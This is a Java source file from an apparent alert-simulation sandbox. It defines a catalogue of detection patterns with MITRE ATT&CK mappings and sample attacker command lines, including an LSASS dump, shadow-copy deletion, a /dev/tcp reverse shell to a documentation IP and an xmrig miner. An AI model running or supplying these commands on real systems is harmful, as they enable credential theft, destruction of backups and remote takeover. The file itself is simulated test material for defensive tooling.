package dev.falconharness.sandbox;

import java.util.List;

/**
 * A detection pattern alerts are made from: what the sensor saw, named as Falcon names it, with its
 * MITRE ATT&amp;CK tactic and technique and the process that triggered it. The generator picks from
 * {@link #CATALOGUE}; seed files name a pattern by {@code pattern_id}.
 *
 * @param baseSeverity the severity (1-100) alerts of this pattern start from, give or take a few
 */
record AlertPattern(int patternId, String name, String displayName, String description, String tacticId, String tactic,
        String techniqueId, String technique, String objective, String scenario, String filename, String filepath,
        String cmdline, int baseSeverity) {

    /** The patterns generated alerts use; every platform has some. */
    static final List<AlertPattern> CATALOGUE = List.of(
            new AlertPattern(10197, "CredentialDumpingLsass", "Credential dumping from LSASS",
                    "A process read the memory of lsass.exe, a common way to steal credentials.", "TA0006",
                    "Credential Access", "T1003", "OS Credential Dumping", "Gain Access", "credential_theft",
                    "procdump64.exe", "\\Device\\HarddiskVolume3\\Users\\Public\\procdump64.exe",
                    "procdump64.exe -accepteula -ma lsass.exe out.dmp", 90),
            new AlertPattern(10305, "EncodedPowerShell", "Obfuscated PowerShell command",
                    "PowerShell ran a base64-encoded command, a common way to hide malicious scripts.", "TA0002",
                    "Execution", "T1059", "Command and Scripting Interpreter", "Follow Through", "suspicious_activity",
                    "powershell.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -NoProfile -EncodedCommand SQBFAFgA", 70),
            new AlertPattern(10420, "RansomwareShadowCopyDelete", "Volume shadow copies deleted",
                    "A process deleted volume shadow copies, which ransomware does before encrypting files.", "TA0040",
                    "Impact", "T1490", "Inhibit System Recovery", "Keep Access", "ransomware", "vssadmin.exe",
                    "\\Device\\HarddiskVolume3\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
                    95),
            new AlertPattern(10518, "ScheduledTaskPersistence", "Suspicious scheduled task created",
                    "A scheduled task was created to run a script from a user-writable folder at every logon.",
                    "TA0003", "Persistence", "T1053", "Scheduled Task/Job", "Keep Access", "persistence",
                    "schtasks.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\schtasks.exe",
                    "schtasks.exe /create /sc onlogon /tn Updater /tr C:\\Users\\Public\\run.bat", 50),
            new AlertPattern(20110, "MacLaunchAgentPersistence", "Launch agent added by an unsigned binary",
                    "An unsigned binary wrote a LaunchAgent property list so that it starts at every login.",
                    "TA0003", "Persistence", "T1543", "Create or Modify System Process", "Keep Access", "persistence",
                    "updater", "/Users/Shared/.updater/updater", "/Users/Shared/.updater/updater --install", 60),
            new AlertPattern(30215, "LinuxReverseShell", "Reverse shell from a web server process",
                    "A shell was started with its input and output connected to a remote address.", "TA0011",
                    "Command and Control", "T1071", "Application Layer Protocol", "Contact Controlled Systems",
                    "suspicious_activity", "bash", "/usr/bin/bash", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", 85),
            new AlertPattern(30310, "CryptominerExecution", "Cryptocurrency miner started",
                    "A known cryptocurrency mining program started and connected to a mining pool.", "TA0040",
                    "Impact", "T1496", "Resource Hijacking", "Follow Through", "cryptomining", "xmrig",
                    "/tmp/.cache/xmrig", "/tmp/.cache/xmrig -o pool.example.net:3333 --donate-level 1", 40),
            new AlertPattern(10601, "SuspiciousDiscovery", "Reconnaissance commands run in a burst",
                    "Several discovery commands (whoami, net group, nltest) ran within seconds of each other.",
                    "TA0007", "Discovery", "T1087", "Account Discovery", "Explore", "reconnaissance", "cmd.exe",
                    "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe",
                    "cmd.exe /c whoami /all & net group \"domain admins\" /domain", 30),
            new AlertPattern(10002, "MachineLearningLowConfidence", "Machine learning detection (low confidence)",
                    "A file was classified as possibly malicious by the sensor's machine learning model.", "TA0002",
                    "Execution", "T1204", "User Execution", "Follow Through", "NGAV", "invoice_2026.exe",
                    "\\Device\\HarddiskVolume3\\Users\\Public\\Downloads\\invoice_2026.exe", "invoice_2026.exe", 15));

    /** The pattern with this ID, or null. */
    static AlertPattern byId(int patternId) {
        return CATALOGUE.stream().filter(p -> p.patternId == patternId).findFirst().orElse(null);
    }

    /** Whether the pattern fits hosts of this platform (Windows, Mac or Linux). */
    boolean fits(String platform) {
        return switch (platform) {
            case "Mac" -> patternId == 20110 || patternId == 30310;
            case "Linux" -> patternId / 10_000 == 3;
            default -> patternId / 10_000 == 1;
        };
    }
}
